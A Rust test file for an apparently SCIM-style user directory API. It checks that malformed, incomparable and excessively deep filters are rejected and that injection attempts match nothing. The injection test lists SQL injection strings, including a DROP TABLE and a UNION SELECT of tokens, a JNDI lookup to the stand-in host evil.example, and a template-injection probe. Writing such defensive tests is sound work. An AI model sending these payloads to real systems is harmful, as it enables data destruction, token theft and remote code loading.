//! Invalid filters, filters on attributes that cannot be compared, and injection attempts (T23, T30, T31).

use super::Populated;
use crate::sample::{SEARCH, encode};
use serde_json::json;

#[track_caller]
fn all_refused(filters: &[&str]) {
    let on = Populated::new();
    for filter in filters {
        for reply in [
            on.client.get(&format!("/Users?filter={}", encode(filter))),
            on.client.post("/Users/.search", &json!({"schemas": [SEARCH], "filter": filter})),
        ] {
            assert_eq!(reply.status, 400, "{filter}: {}", reply.json);
            reply.refused(400, "invalidFilter");
        }
    }
}

#[test]
fn a_malformed_filter_is_refused_and_never_matches_all() {
    // T31, R-121, R-127, R-140, R-143, R-145
    all_refused(&[
        "",
        " ",
        "userName",
        "userName eq",
        "eq \"x\"",
        "\"x\"",
        "userName \"x\"",
        "userName eq x",
        "userName eq 'x",
        "userName eq ’x’",
        "userName eq \"x",
        "userName eq x\"",
        "userName eq \"x\" and",
        "and userName eq \"x\"",
        "userName eq \"x\" or",
        "userName eq \"x\" userName eq \"y\"",
        "userName eq \"x\" xor userName eq \"y\"",
        "not userName eq \"x\"",
        "not",
        "not ()",
        "()",
        "(",
        ")",
        "(userName eq \"x\"",
        "userName eq \"x\")",
        "((userName eq \"x\")",
        "userName == \"x\"",
        "userName = \"x\"",
        "userName regex \"x\"",
        "userName like \"x\"",
        "userName eq \"x\" && userName eq \"y\"",
        "userName pr \"x\"",
        "userName eq \"\\ud800\"",
        "userName eq tru",
        "userName eq \"x\";",
        "emails[",
        "emails[]",
        "emails[type eq \"work\"",
        "emails]type eq \"work\"]",
        "emails[type eq \"work\" and emails[value pr]]",
        "emails[0]",
        "userName[value eq \"x\"]",
        ".userName eq \"x\"",
        "userName. eq \"x\"",
        "name..givenName eq \"x\"",
        "name.givenName.x eq \"x\"",
        "1userName eq \"x\"",
        "userName eq \"x\" and ()",
        "userName eq [\"x\"]",
        "userName eq {}",
        "userName eq 01",
        "urn:: eq \"x\"",
    ]);
}

#[test]
fn a_filter_on_what_does_not_exist_or_cannot_be_compared_is_refused() {
    //
    all_refused(&[
        "nothing eq \"x\"",
        "nothing pr",
        "name.nothing eq \"x\"",
        "emails.nothing pr",
        "emails[nothing eq \"x\"]",
        "members pr",
        "urn:example:nothing:name eq \"x\"",
        "urn:ietf:params:scim:schemas:core:2.0:User:nothing pr",
        "urn:ietf:params:scim:schemas:core:2.0:Group:displayName pr",
        "password pr",
        "password eq \"x\"",
        "name eq \"x\"",
        "userName eq 5",
        "userName eq true",
        "active eq 1",
        "active eq \"perhaps\"",
        "active gt true",
        "active lt false",
        "active co \"t\"",
        "active sw \"t\"",
        "meta.created co \"2020\"",
        "meta.created sw \"2020\"",
        "meta.created eq \"yesterday\"",
        "meta.created gt \"2020-01-01\"",
        "meta.created eq 5",
        "emails[primary gt true]",
        "x509Certificates.value gt \"QQ==\"",
        "userName gt null",
        "userName co 5",
        "displayName sw true",
    ]);
}

#[test]
fn injection_attempts_in_filters_are_plain_text() {
    // T30
    let on = Populated::new();
    let literals = [
        "' OR '1'='1",
        "' OR 1=1 --",
        "'; DROP TABLE resources; --",
        "\" or \"\"=\"",
        "x' UNION SELECT token FROM tokens --",
        "%",
        "_",
        "*",
        "?",
        "[a-z]",
        ".*",
        "^",
        "a%",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "\\",
        "\\%",
        "ada@example.co_",
        "%@example.com",
    ];
    for literal in literals {
        for operator in ["eq", "co", "sw", "ew"] {
            for attribute in ["userName", "displayName", "title", "emails.value", "name.givenName", "externalId"] {
                let filter = format!("{attribute} {operator} {}", json!(literal));
                assert!(on.client.find("/Users", &filter).is_empty(), "{filter} found a user");
            }
        }
    }
    all_refused(&[
        "userName' eq \"x\"",
        "user%4eame eq \"x\"",
        "userName) or (1 eq 1",
        "1 eq 1",
        "\"a\" eq \"a\"",
        "body pr",
        "user_name_key pr",
        "rowid pr",
    ]);
    assert_eq!(on.client.count("/Users"), 1);
}

#[test]
fn a_filter_too_deep_or_too_long_is_refused_at_once() {
    // T23, R-144: a counter limits the depth, not the stack.
    let on = Populated::new();
    let deep = |depth: usize| format!("{}userName pr{}", "(".repeat(depth), ")".repeat(depth));
    let negated = |depth: usize| format!("{}userName pr{}", "not (".repeat(depth), ")".repeat(depth));
    let chain = |terms: usize| vec!["userName pr"; terms].join(" or ");
    let filters = [
        deep(40),
        deep(300_000),
        negated(40),
        negated(60_000),
        chain(201),
        chain(20_000),
        format!("userName eq \"{}\"", "x".repeat(9000)),
        "(".repeat(50_000),
    ];
    for filter in filters {
        let begun = std::time::Instant::now();
        let reply = on.client.post("/Users/.search", &json!({"schemas": [SEARCH], "filter": filter}));
        let start: String = filter.chars().take(40).collect();
        assert!([400, 413].contains(&reply.status), "{start}: {}", reply.json);
        let detail = reply.with_scim_error().json["detail"].to_string();
        assert!(detail.len() < 400, "the answer echoes the filter: {} bytes", detail.len());
        assert!(begun.elapsed().as_secs() < 2, "{start} took {:?}", begun.elapsed());
    }
    assert_eq!(on.client.find("/Users", &deep(20)).len(), 1);
    assert_eq!(on.client.find("/Users", &chain(150)).len(), 1);
}

#[test]
fn the_error_of_an_invalid_filter_has_position_and_reason() {
    // D6: the identity provider displays the sentence to its administrator.
    let on = Populated::new();
    let detail = |filter: &str| {
        let reply = on.client.get(&format!("/Users?filter={}", encode(filter))).refused(400, "invalidFilter");
        reply.json["detail"].as_str().unwrap().to_owned()
    };
    assert!(detail("nothing eq \"x\"").contains("nothing"));
    assert!(detail("userName like \"x\"").contains("like"));
    assert!(
        detail("userName eq ’x’").contains('"') || detail("userName eq ’x’").contains("quot"),
        "{}",
        detail("userName eq ’x’")
    );
    assert!(detail("userName eq \"x\" or").chars().any(|c| c.is_ascii_digit()), "no position");
}
